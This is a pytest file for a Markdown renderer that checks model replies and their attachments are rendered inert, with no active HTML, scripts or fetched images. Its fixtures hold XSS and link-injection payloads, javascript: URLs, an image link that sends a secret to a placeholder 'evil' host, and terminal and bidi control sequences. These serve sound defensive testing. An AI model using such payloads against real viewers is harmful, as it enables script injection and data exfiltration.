"""A reply as Markdown: everything is there, and nothing acts, in any viewer."""

import json
import random
import re
from collections.abc import Iterator
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from toolyard.protocol.replies.reply_prompt import Language
from toolyard.protocol.replies.reply_values import Attachment, Reply
from toolyard.protocol.reply import parse_reply
from toolyard.render.markdown import to_markdown
from toolyard.render.markdown_inert import make_inert

PIECES = [
    *("<script>", "<b>", "</b>", "<!--", "-->", "<?x", "<details>\n", "<img src=x onerror=1>", '<a href="`">', "`<i>`"),
    *("`", "``", "```", "````", "~~~", "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "|", "|-|-|\n", "a", "b c", "\\"),
    *("![x](http://e)", "![", "](", "[x]: javascript:a\n", "[x]: b\n", "[x]", "![x]", "![x][x]", "[x](javascript:a)"),
    *(
        "<javascript:a>",
        "<https://a.b>",
        "# ",
        "---\n",
        "===\n",
        "*",
        "_",
        "$",
        "&lt;",
        "&#x202e;",
        "\t",
        "!",
        "[^1]: ",
    ),
    *(
        "{{code:a}}",
        "{{mermaid:m}}",
        "{{image:i}}",
        "{{latex:e}}",
        "{{table:t}}",
        "{{code:none}}",
        "\n```\n",
        "\x1b[31m",
    ),
]
HOSTILE = {
    "a": Attachment("a", "code", "<b>\n```\n</script>{{code:a}}", "ht`ml", "t<b>`"),
    "m": Attachment("m", "mermaid", "graph TD\n<!--"),
    "i": Attachment("i", "image", "https://e/x)<b>![y](http://z)", title="![x](http://y)"),
    "e": Attachment("e", "latex", "a<b>`\n\n<i>"),
    "t": Attachment("t", "table", "a,b\n`,<b> `\n![x](http://e),2"),
}


def viewers() -> list[MarkdownIt]:
    """A CommonMark viewer and a GFM one, both with HTML on and no opinion on addresses."""
    plain = MarkdownIt("commonmark", {"html": True})
    parsers = [plain, MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])]
    for viewer in parsers:
        viewer.validateLink = lambda url: True  # type: ignore[method-assign]
    return parsers


def tokens(nodes: list[Token]) -> Iterator[Token]:
    for token in nodes:
        yield token
        yield from tokens(token.children or [])


def active(document: str) -> list[tuple[str, Any]]:
    """What a viewer would do something with."""
    unsafe = re.compile(r"\s*(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", re.IGNORECASE)
    return [
        (token.type, token.content or token.attrs)
        for viewer in viewers()
        for token in tokens(viewer.parse(document))
        if token.type in {"html_block", "html_inline", "image"}
        or (token.type == "link_open" and unsafe.match(str(token.attrs["href"])))
    ]


def reply(content: str, **attachments: dict[str, Any]) -> Reply:
    read = parse_reply(json.dumps({"content": content, "attachments": attachments}))
    assert isinstance(read, Reply)
    return read


@pytest.mark.requirement("reply:attachments", "reply:placeholders")
def test_each_attachment_stands_where_its_placeholder_was() -> None:
    read = reply(
        "One:\n\n{{mermaid:m}}\n\nTwo:\n{{code:c}}\nThree: {{latex:e}} and {{image:i}}.\n\n{{latex:e}}",
        m={"type": "mermaid", "content": "graph TD\nA-->B"},
        c={"type": "code", "language": "python", "content": "print(1)\n", "title": "Main_file"},
        e={"type": "latex", "content": "E = mc^2"},
        i={"type": "image", "content": "https://e.com/a b.png", "title": "A [cat]"},
    )
    assert to_markdown(read) == (
        "One:\n\n```mermaid\ngraph TD\nA-->B\n```\n\nTwo:\n\n**Main\\_file**\n\n```python\nprint(1)\n```\n\n"
        "Three: $E = mc^2$ and Image: [A \\[cat\\]](https://e.com/a%20b.png).\n\n**e**\n"
    )


@pytest.mark.requirement("reply:attachments")
def test_a_formula_on_its_own_line_is_set_apart_and_one_that_could_break_out_is_fenced() -> None:
    assert to_markdown(reply("{{latex:e}}", e={"type": "latex", "content": "$$x^2$$"})) == "$$\nx^2\n$$\n"
    for tex in ("a $$ b", "a\n\nb", "a <b", "- a"):
        assert to_markdown(reply("{{latex:e}}", e={"type": "latex", "content": tex})) == f"```latex\n{tex}\n```\n"


@pytest.mark.requirement("reply:attachments:more")
@pytest.mark.parametrize(
    "content",
    [
        {"columns": ["a", "b|c"], "rows": [[1, "x"], [None, True]]},
        {"columns": [{"key": "k", "title": "a"}, "b|c"], "rows": [{"k": 1, "b|c": "x"}, {"b|c": True}]},
        [{"a": 1, "b|c": "x"}, {"b|c": True}],
        'a,b|c\n1,"x"\n,true\n',
        "a;b|c\n1;x\n;true",
        "| a | b\\|c |\n|---|:-:|\n| 1 | x |\n| | true |",
        '{"columns": ["a", "b|c"], "rows": [[1, "x"], ["", true]]}',
    ],
)
def test_tables_of_every_form_become_one_table(content: Any) -> None:
    output = to_markdown(reply("{{table:t}}", t={"type": "table", "content": content, "title": "T"}))
    assert output == "**T**\n\n| a | b\\|c |\n| --- | --- |\n| 1 | x |\n|  | true |\n"


@pytest.mark.requirement("reply:attachments:more")
@pytest.mark.parametrize("content", ["a," * 100, "x\n" * 3_000, {"columns": []}, '{"broken', [[1] * 41]])
def test_what_is_no_table_or_too_large_is_shown_as_it_is(content: Any) -> None:
    output = to_markdown(reply("{{table:t}}", t={"type": "table", "content": content}))
    text = content if isinstance(content, str) else json.dumps(content, indent=2)
    assert text.strip() in output
    assert output.startswith("```")


@pytest.mark.requirement("reply:attachments:more")
def test_a_chart_is_its_numbers_and_its_source() -> None:
    config = {"type": "bar", "data": {"labels": ["x", "y"], "datasets": [{"label": "s", "data": [1, 2.5]}]}}
    for content in (config, json.dumps(config)):
        output = to_markdown(reply("{{chart:c}}", c={"type": "chart", "content": content}))
        assert output.startswith("|  | s |\n| --- | --- |\n| x | 1 |\n| y | 2.5 |\n\n```json\n{")
    assert to_markdown(reply("{{chart:c}}", c={"type": "chart", "content": "{"})) == "```json\n{\n```\n"


@pytest.mark.requirement("reply:attachments:more", "reply:attachments", "reply:inert")
@pytest.mark.parametrize(("type_", "word"), [("image", "Image"), ("audio", "Audio"), ("video", "Video")])
def test_media_are_links_or_a_line_and_never_fetched(type_: str, word: str) -> None:
    def render_link(content: str, **named: str) -> str:
        return to_markdown(reply(f"{{{{{type_}:i}}}}", i={"type": type_, "content": content, **named}))

    assert render_link("https://e.com/a_b") == f"{word}: [https://e.com/a\\_b](https://e.com/a_b)\n"
    assert render_link("data:x/y;base64,AAAA", title="T") == f"{word}: T (x/y, 3 bytes, in the reply)\n"
    assert render_link("javascript:alert(1)") == f"{word}: i (no link: `javascript:alert(1)`)\n"
    assert render_link("//evil.com/a.png") == f"{word}: i (no link: `//evil.com/a.png`)\n"
    escape = render_link('https://e.com/a.png)](https://evil.com "x')
    assert "(https://e.com/a.png%29]%28https://evil.com%20%22x)" in escape
    assert active(escape) == []


@pytest.mark.requirement("reply:placeholders", "s:S-68")
def test_placeholders_in_code_and_in_attachments_are_text_and_each_is_written_once() -> None:
    read = reply(
        "`{{code:a}}`\n\n```\n{{code:a}}\n```\n\n> ```\n> {{code:b}}\n> ```\n\n{{code:a}}\n\nAgain {{code:a}}.",
        a={"type": "code", "content": "see {{code:b}} and {{code:a}}"},
        b={"type": "code", "content": "SECRET"},
    )
    output = to_markdown(read)
    assert output.count("see {{code:b}} and {{code:a}}") == 1
    assert "`{{code:a}}`\n\n```\n{{code:a}}\n```\n\n> ```\n> {{code:b}}\n> ```\n\n```\nsee" in output
    assert "Again **a**." in output
    assert output.index("SECRET") > output.index("Attachments that the text does not use")


@pytest.mark.requirement("reply:placeholders")
def test_attachments_stay_in_their_list_or_quote_and_come_after_the_table_that_names_them() -> None:
    code = {"type": "code", "content": "x\n\ny"}
    assert to_markdown(reply("- {{code:a}}\n- two", a=code)) == "- ```\n  x\n\n  y\n  ```\n\n- two\n"
    assert to_markdown(reply("1. one\n   {{code:a}}\n2. two", a=code)) == (
        "1. one\n\n   ```\n   x\n\n   y\n   ```\n\n2. two\n"
    )
    assert to_markdown(reply("> a\n> {{code:a}}", a=code)) == "> a\n>\n> ```\n> x\n>\n> y\n> ```\n"
    table = "| a | b |\n|---|---|\n| {{code:a}} | 1 |\n\nafter"
    assert to_markdown(reply(table, a=code)) == ("| a | b |\n|---|---|\n| **a** | 1 |\n\n```\nx\n\ny\n```\n\nafter\n")


@pytest.mark.requirement("reply:placeholder-faults", "s:S-68")
@pytest.mark.parametrize(
    ("language", "missing", "mismatched", "unused", "invalid"),
    [
        (
            Language.ENGLISH,
            "there is no such attachment",
            "the attachment is of the type code",
            "does not use",
            'The attachment "c" has no content: left out.',
        ),
        (Language.CHINESE, "找不到该附件", "附件的类型是 code", "未引用", "附件“c”无效，已略去"),
    ],
)
def test_missing_mismatched_and_unused_attachments_show(
    language: Language, missing: str, mismatched: str, unused: str, invalid: str
) -> None:
    read = reply(
        "{{image:nope}}\n\nand {{latex:a}}",
        a={"type": "code", "content": "A"},
        b={"type": "poem", "content": "B"},
        c={"type": "code"},
    )
    output = to_markdown(read, language)
    assert f"⚠️ `{{{{image:nope}}}}`: {missing}" in output
    assert f"**a** (⚠️ `{{{{latex:a}}}}`: {mismatched})" in output
    assert "```\nA\n```" in output
    assert output.index(unused) < output.index("poem") < output.index("```\nB\n```")
    assert f"⚠️ {invalid}" in output


@pytest.mark.requirement("reply:shown")
def test_the_thinking_is_quoted_apart_from_the_content() -> None:
    assert to_markdown(Reply("Done.", "First\n```\nthen"), Language.CHINESE) == (
        "> **思考过程**\n>\n> First\n> ```\n> then\n\nDone.\n"
    )
    assert to_markdown(Reply("# Done\n\n- *a*\n", "  ")) == "# Done\n\n- *a*\n"


@pytest.mark.requirement("reply:shown")
def test_a_reply_that_was_cut_off_says_so() -> None:
    read = parse_reply('{"content": "The answer is')
    assert to_markdown(read) == "The answer is\n\n⚠️ The reply is incomplete: it ended too soon.\n"


@pytest.mark.requirement("reply:inert")
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("`a<b>` <i> a < b", "`a<b>` &lt;i> a < b"),
        ("```\n<b>\n```", "```\n<b>\n```"),
        ("&lt;b&gt;", "&lt;b&gt;"),
        ("![pic](http://evil/?q=SECRET)", "[pic](http://evil/?q=SECRET)"),
        ("![](http://evil)", "[image](http://evil)"),
        ("![x][y] !![x](z) vec![1]", "\\![x][y] !\\![x](z) vec\\![1]"),
        ("[x](javascript:alert(1))", "[x]\\(javascript:alert(1))"),
        ("[x](jav&#x09;ascript:alert(1))", "[x]\\(jav&#x09;ascript:alert(1))"),
        ("[x]: data:text/html,x\n\n[x]", "[x]\\: data:text/html,x\n\n[x]"),
        (
            "[x](https://a.b) [y](#z) <https://a.b> <javascript:x>",
            "[x](https://a.b) [y](#z) <https://a.b> &lt;javascript:x>",
        ),
        ("| ` | <script> ` |\n|-|-|\n| `a<b>` | `c` |", "| ` | &lt;script> ` |\n|-|-|\n| a&lt;b\\> | `c` |"),
        ("$a_1 < b_1$ \\\\frac", "$a_1 < b_1$ \\\\frac"),
    ],
)
def test_markup_that_would_act_becomes_text_and_the_rest_stays_as_it_is(content: str, expected: str) -> None:
    made = to_markdown(Reply(content))
    assert made == expected + "\n"
    assert active(made) == []
    assert active("<b>") != []


@pytest.mark.requirement("reply:inert", "s:S-68")
@pytest.mark.parametrize("seed", range(300))
def test_no_mixture_of_markup_acts_in_any_viewer(seed: int) -> None:
    mix = random.Random(seed)
    content, think = ("".join(mix.choices(PIECES, k=count)) for count in (mix.randint(1, 30), mix.randint(0, 10)))
    output = to_markdown(Reply(content, think, HOSTILE))
    assert (active(output), "\x1b" in output) == ([], False)
    assert make_inert(output) == output


@pytest.mark.requirement("reply:inert", "s:S-65")
def test_fences_are_longer_than_what_they_hold_and_languages_are_plain_words() -> None:
    code = "````\n```\n`````x"
    for language, info in (('"><script>', ""), ("py\nx", ""), ("c++", "c++"), (None, "")):
        read = Reply("{{code:a}}", attachments={"a": Attachment("a", "code", code, language)})
        assert to_markdown(read) == f"``````{info}\n{code}\n``````\n"


@pytest.mark.requirement("s:S-65")
def test_controls_and_directions_are_signs_in_content_code_titles_and_ids() -> None:
    evil = "a\x1b[2J\u202eb\x00\x85\u2066\r\nc"
    seen = "a␛[2J⟨U+202E⟩b␀⟨U+0085⟩⟨U+2066⟩\nc"
    read = Reply(f"{evil} &#x202e;\n\n{{{{code:a}}}}", evil, {"a": Attachment("a", "code", evil, evil, evil)})
    output = to_markdown(read)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", output)
    assert output.count("[2J⟨U+202E⟩b␀⟨U+0085⟩⟨U+2066⟩") == 4  # thinking, content, title, code
    assert f"```\n{seen}\n```" in output
    assert "&amp;#x202e;" in output


@pytest.mark.requirement("reply:inert")
def test_a_reply_made_to_grow_stays_small_and_a_huge_content_is_shown_as_it_is() -> None:
    attachments = {"a": Attachment("a", "code", "x" * 900_000, title="t" * 900_000)}
    assert len(to_markdown(Reply("{{code:a}} " * 20_000, attachments=attachments))) < 8_000_000
    huge = "<b>\n- a\n" * 60_000
    assert to_markdown(Reply(huge)) == f"```\n{huge}```\n"
